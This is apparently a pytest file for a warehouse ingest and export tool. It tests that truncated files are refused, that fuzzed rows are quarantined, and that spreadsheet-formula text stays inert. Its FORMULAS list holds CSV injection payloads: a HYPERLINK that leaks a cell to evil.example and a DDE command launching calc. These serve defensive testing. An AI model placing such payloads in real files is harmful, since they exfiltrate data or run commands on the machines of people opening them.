"""Bad inputs of section A and D the other loader tests do not cover: truncated files, a
seeded fuzzed file, hostile cell values."""

from __future__ import annotations

import csv
import gzip
import hashlib
import random
from datetime import date
from pathlib import Path

import psycopg

from sqwh.ingest import load_file
from sqwh.warehouse import connect
from tests.reliability.faults import FAULT_HEADER, count, write_fault_file

# text a spreadsheet would run: a link that leaks a cell, a DDE command, arithmetic, a function
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
]


def write_chk(path: Path, records: int) -> None:
    data = path.read_bytes()
    path.with_name(path.name + ".chk").write_text(
        f"{path.name}|{len(data)}|{records}|{hashlib.md5(data).hexdigest()}\n"
    )


def row(ticket: str, **values: str) -> str:
    fields = {
        "ticket_id": ticket,
        "line_no": "13500001234",
        "product": "FIXED",
        "city_code": "140100",
        "county_code": "140105",
        "area_type": "URBAN",
        "report_time": "2019-01-01 10:10:10",
        "restore_time": "2019-01-01 12:10:10",
        "fault_class": "LINE",
        "source": "10000",
    } | values
    return "|".join(fields.values())


def deliver(folder: Path, day: str, rows: list[str], *, gz: bool = False) -> Path:
    name = f"BSS_FAULT_{day}.csv" + (".gz" if gz else "")
    path = folder / "bss" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    data = "".join(f"{line}\n" for line in [FAULT_HEADER, *rows]).encode()
    path.write_bytes(gzip.compress(data, mtime=0) if gz else data)
    write_chk(path, len(rows))
    return path


def ledger(url: str) -> list[tuple]:
    with psycopg.connect(url) as conn:
        return conn.execute(
            "select file_name, status, reason from audit.load_manifest order by load_id"
        ).fetchall()


def test_truncated_gz_and_csv_are_refused(crashable: dict, tmp_path: Path) -> None:
    url = crashable["url"]
    # 1) cut in half, the control file describes the whole file
    whole = write_fault_file(tmp_path, date(2019, 1, 1), 1_000)
    size = whole.stat().st_size
    whole.write_bytes(whole.read_bytes()[: size // 2])
    # 2) a .gz cut in half whose control file was computed on the cut bytes
    gz = deliver(tmp_path, "20190102", [row(f"G{i:05d}") for i in range(1_000)], gz=True)
    gz.write_bytes(gz.read_bytes()[: gz.stat().st_size // 2])
    write_chk(gz, 1_000)
    # 3) a CSV cut mid-row, control file on the cut bytes with the original record count
    csv = deliver(tmp_path, "20190103", [row(f"C{i:05d}") for i in range(1_000)])
    csv.write_bytes(csv.read_bytes()[: csv.stat().st_size // 2 + 7])
    write_chk(csv, 1_000)
    with connect(url) as conn:
        results = [load_file(conn, p, system="bss") for p in (whole, gz, csv)]
    assert [r.status for r in results] == ["REFUSED"] * 3, [r.reason for r in results]
    assert results[0].reason == (
        f"{whole}: size is {size // 2} bytes but the control file says {size} "
        "(truncated or still being written?)"
    )
    assert results[1].reason is not None
    assert results[1].reason.startswith(f"{gz}: cannot be read to the end (")
    assert results[1].reason.endswith("); truncated or corrupt")
    assert results[2].reason == (
        f"{csv}: line 501 does not split into the header's 10 fields (missing data for column "
        '"restore_time"); the file is truncated, or a field holding a delimiter or line break '
        "is not quoted"
    )
    assert count(url, "select count(*) from raw.bss_fault") == 0
    assert [s for _, s, _ in ledger(url)] == ["REFUSED"] * 3


def test_fuzzed_rows_reconcile(crashable: dict, tmp_path: Path) -> None:
    """A seeded fuzz: 1,000 rows, a few broken (< the 1 % threshold) and some hostile but valid
    (quotes, embedded delimiter and newline); every broken row is quarantined, every other
    loaded, and rows in file = loaded + quarantined."""
    url = crashable["url"]
    rng = random.Random(20190101)
    breakers = {
        "product": "FIXD",  # not in the enumeration
        "city_code": "1401",  # breaks the pattern
        "report_time": "2019-02-30 10:10:10",  # no such day
        "restore_time": "yesterday",  # not a timestamp
        "ticket_id": "",  # required
        "area_type": "SUBURB",
    }
    valid_oddities = [
        {"fault_class": '"LINE|CUT"'},  # quoted delimiter
        {"fault_class": '"LINE\nSECOND LINE"'},  # quoted newline
        {"fault_class": '"say ""hi"""'},  # doubled quotes
        {"fault_class": "线路故障"},  # Chinese text
    ]
    rows, broken, odd = [], {}, set()
    for i in range(1_000):
        ticket = f"F{i:05d}"
        if i in rng.sample(range(1_000), 0) or (i % 125 == 7):  # 8 broken rows
            column = rng.choice(sorted(breakers))
            broken[ticket] = column
            rows.append(row(ticket, **{column: breakers[column]}))
        elif i % 50 == 3:
            odd.add(ticket)
            rows.append(row(ticket, **rng.choice(valid_oddities)))
        else:
            rows.append(row(ticket))
    path = deliver(tmp_path, "20190101", rows)
    with connect(url) as conn:
        result = load_file(conn, path, system="bss")
    assert (result.status, result.rows_read) == ("LOADED", 1_000), result.reason
    assert (result.rows_loaded, result.rows_rejected) == (1_000 - len(broken), len(broken))
    with psycopg.connect(url) as conn:
        quarantined = conn.execute(
            "select raw_record, column_name, reason, record_no, file_name from raw.quarantine"
        ).fetchall()
        tickets = {t for (t,) in conn.execute("select ticket_id from raw.bss_fault")}
    assert len(quarantined) == len(broken)
    for raw_record, column, reason, record_no, file_name in quarantined:
        ticket = raw_record.split("|")[0] or next(t for t, c in broken.items() if c == "ticket_id")
        assert file_name == path.name and record_no > 0 and reason
        assert column == broken[ticket], (ticket, column, reason)
    assert tickets == {f"F{i:05d}" for i in range(1_000)} - set(broken)
    assert odd <= tickets
    assert 1_000 == len(tickets) + len(quarantined)


def test_hostile_cells_are_stored_inert_or_quarantined(crashable: dict, tmp_path: Path) -> None:
    url = crashable["url"]
    formulas = {
        "H1": '"=HYPERLINK(""http://evil.example/?""&A1,""click"")"',
        "H2": FORMULAS[1].replace("|", "¦"),  # the delimiter would split it
        "H3": FORMULAS[2],
        "H4": FORMULAS[3],
    }
    megabyte = "X" * (1 << 20)
    rows = [row(f"N{i:04d}") for i in range(400)]
    rows += [row(t, fault_class=v) for t, v in formulas.items()]
    rows.append(row("BIG1", fault_class=megabyte))
    rows.append(row("NUL1", fault_class="LI\x00NE"))
    path = deliver(tmp_path, "20190101", rows)
    with connect(url) as conn:
        result = load_file(conn, path, system="bss")
    print(f"\n{result.status}: loaded {result.rows_loaded}, quarantined {result.rows_rejected}")
    assert result.status == "LOADED", result.reason
    assert result.rows_read == len(rows) == result.rows_loaded + result.rows_rejected
    with psycopg.connect(url) as conn:
        stored = dict(
            conn.execute(
                "select ticket_id, fault_class from raw.bss_fault where ticket_id = any(%s)",
                (["H1", "H2", "H3", "H4", "BIG1"],),
            ).fetchall()
        )
        quarantined = conn.execute(
            "select record_no, column_name, reason from raw.quarantine order by record_no"
        ).fetchall()
    assert stored["H1"] == '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert stored["H2"] == "+cmd¦' /C calc'!A0" and stored["H3"] == "-2+3"
    assert stored["H4"] == "@SUM(1+1)"
    assert stored["BIG1"] == megabyte  # a long text value is data, stored whole
    assert len(quarantined) == result.rows_rejected == 1
    nul = [q for q in quarantined if q[0] == len(rows)]
    assert nul and nul[0][1] == "fault_class" and "NUL" in nul[0][2], quarantined


def test_csv_export_keeps_formula_text_inert(tmp_path: Path) -> None:
    """Extract text reaches the export as city names and breakdown values: a spreadsheet
    opening `sqwh export`'s CSV must show it as text, and numbers must stay numbers."""
    from decimal import Decimal
    from types import SimpleNamespace

    from sqwh.report.data import Figure
    from sqwh.report.export import COLUMNS, write_csv

    def figure(city: str, breakdown: str | None, change: str) -> Figure:
        return Figure(
            "HL_ANSWER_RATE", "CITY", city, "skill_group" if breakdown else None, breakdown,
            Decimal(90), Decimal(100), Decimal("90.00"), "%", Decimal(85), ">=", True,
            Decimal("91.5"), Decimal(change), None,
        )  # fmt: skip

    cities = {f"14{i:04d}": text for i, text in enumerate(FORMULAS, 1)}
    figures = [figure(code, None, "-1.50") for code in cities]
    figures += [figure("140001", text, "2") for text in FORMULAS]
    data = SimpleNamespace(
        period="2019H1",
        publication=SimpleNamespace(publication_id=7),
        figures=figures,
        catalogue={"HL_ANSWER_RATE": SimpleNamespace(name_zh="人工接通率", name_en="Answer rate")},
        cities=cities,
    )
    target = tmp_path / "2019H1.csv"
    assert write_csv(data, target) == len(figures)  # type: ignore[arg-type]
    assert target.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8 names
    with target.open(encoding="utf-8-sig", newline="") as f:
        table = list(csv.DictReader(f))
    assert list(table[0]) == COLUMNS
    assert [r["city_name"] for r in table[: len(cities)]] == ["'" + t for t in FORMULAS]
    assert [r["breakdown"] for r in table[len(cities) :]] == ["'" + t for t in FORMULAS]
    assert {r["change"] for r in table} == {"-1.5", "2"}  # a negative number is not a formula
    assert table[0]["indicator_name_zh"] == "人工接通率" and table[0]["meets_target"] == "true"
    risky = [
        (n, c, v)
        for n, r in enumerate(table, 2)
        for c, v in r.items()
        if v[:1] in ("=", "+", "-", "@", "\t", "\r") and c not in ("change", "previous_value")
    ]
    assert not risky, f"cells a spreadsheet would evaluate (line, column, text): {risky}"
